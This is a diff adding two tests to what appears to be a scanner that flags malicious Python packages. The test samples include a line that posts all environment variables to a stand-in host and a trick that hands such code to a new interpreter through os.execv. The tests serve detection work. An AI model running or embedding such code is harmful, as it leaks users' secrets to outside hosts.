@@ -276,3 +276,26 @@ def test_a_start_up_file_that_runs_data_is_found(
     (found,) = scan(behaviour, tmp_path, {"sample.pth": line, "sample/notes.txt": "x = 1\n"})
 
     assert found.rule == "runs-own-data"
+
+
+def test_what_an_older_python_cannot_write_down_is_identified(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    send = "requests.post(f'https://a.example/{'\\n'.join(os.environ)}')"
+    code = f"import os\nimport requests\n\ndef go():\n    {send}\n\ngo()\n"
+
+    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})
+
+    assert [each.rule for each in found] == ["sends-secrets"]
+    assert found[0].locations[0].fingerprint
+
+
+def test_code_that_a_new_python_is_given_is_looked_at(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    inner = "; ".join(SENDS.splitlines())
+    code = f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', {inner!r}])\n"
+
+    assert [each.rule for each in scan(behaviour, tmp_path, {"sample/__init__.py": code})] == [
+        "sends-secrets"
+    ]
